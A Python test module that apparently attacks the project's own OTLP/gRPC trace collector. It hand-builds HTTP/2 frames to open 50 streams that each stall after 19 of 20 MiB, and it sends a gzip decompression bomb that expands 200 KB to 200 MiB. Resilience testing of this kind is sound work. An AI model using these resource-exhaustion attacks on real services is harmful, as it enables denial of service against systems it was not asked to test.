"""Attacks on the door for OTLP/gRPC, for `attacks`: a client that speaks just enough HTTP/2 to stop in the middle.

Frames: RFC 9113, sections 4 and 6; messages: https://github.com/grpc/grpc/blob/master/doc/PROTOCOL-HTTP2.md.
"""

from __future__ import annotations

import asyncio
import contextlib
import gzip
import struct
import time
from typing import Any, Final

import aiohttp
import grpc

EXPORT: Final = "/opentelemetry.proto.collector.trace.v1.TraceService/Export"
SECONDS: Final = 5.0
CALLS: Final = 50
_SIZE: Final = (20 << 20) - 16
_SENT: Final = 19 << 20
_DATA, _HEADERS, _RESET, _SETTINGS, _PING, _WINDOW = 0, 1, 3, 4, 6, 8
_FRAME: Final = 16_384
_BOMB: Final = gzip.compress(b"\n\0" * (100 << 20))

address = ""
"""Where the service takes gRPC; set before an attack."""


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _header(name: str, value: str) -> bytes:
    """A header field without compression (RFC 7541, section 6.2.2)."""
    return b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


_CALL: Final = b"".join(
    _header(name, value)
    for name, value in (
        (":method", "POST"), (":scheme", "http"), (":path", EXPORT), (":authority", "service"), ("te", "trailers"),
        ("content-type", "application/grpc"),
    )
)  # fmt: skip


class _Client:
    """Sends the beginning of a message on each of some streams, as fast as flow control lets it."""

    def __init__(self) -> None:
        self.open = {1 + 2 * i: 0 for i in range(CALLS)}
        self._windows = dict.fromkeys(self.open, 65_535)
        self._window = 65_535
        self._buffer = b""

    def pieces(self) -> bytes:
        """What may be sent now."""
        frames = []
        for stream, sent in self.open.items():
            size = min(_FRAME, self._windows[stream], self._window, _SENT - sent)
            if size > 5:
                prefix = b"\0" + struct.pack(">I", _SIZE) if not sent else b""
                frames.append(_frame(_DATA, 0, stream, prefix.ljust(size, b"\0")))
                self.open[stream] += size
                self._windows[stream] -= size
                self._window -= size
        return b"".join(frames)

    def answer(self, data: bytes) -> bytes:
        """What has to be sent because of what came."""
        self._buffer += data
        answers = []
        while len(self._buffer) >= 9 and len(self._buffer) >= 9 + (size := int.from_bytes(self._buffer[:3])):
            kind, flags, stream = self._buffer[3], self._buffer[4], int.from_bytes(self._buffer[5:9])
            payload, self._buffer = self._buffer[9 : 9 + size], self._buffer[9 + size :]
            if kind == _WINDOW and not stream:
                self._window += int.from_bytes(payload)
            elif kind == _WINDOW and stream in self._windows:
                self._windows[stream] += int.from_bytes(payload)
            elif kind in (_SETTINGS, _PING) and not flags & 1:
                answers.append(_frame(kind, 1, 0, payload if kind == _PING else b""))
            elif kind == _RESET:
                self.open.pop(stream, None)
        return b"".join(answers)


async def half_messages(_session: aiohttp.ClientSession, _address: str) -> None:
    """Calls on one connection that stop after 19 of 20 MiB."""
    host, port = address.split(":")
    client, end = _Client(), time.monotonic() + SECONDS
    with contextlib.suppress(OSError):
        reader, writer = await asyncio.open_connection(host, int(port))
        writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(_SETTINGS, 0, 0, b""))
        writer.write(b"".join(_frame(_HEADERS, 4, stream, _CALL) for stream in client.open))
        while time.monotonic() < end and client.open:
            writer.write(client.pieces())
            await writer.drain()
            with contextlib.suppress(TimeoutError):
                data = await asyncio.wait_for(reader.read(1 << 16), 0.05)
                if not data:
                    break
                writer.write(client.answer(data))
        writer.transport.abort()


async def bombs(_session: aiohttp.ClientSession, _address: str) -> None:
    """Messages of 200 KB that become 200 MiB."""
    async with grpc.aio.insecure_channel(address, [("grpc.use_local_subchannel_pool", 1)]) as channel:
        export: Any = channel.unary_unary(EXPORT)
        with contextlib.suppress(grpc.aio.AioRpcError):
            await export(_BOMB, timeout=30)
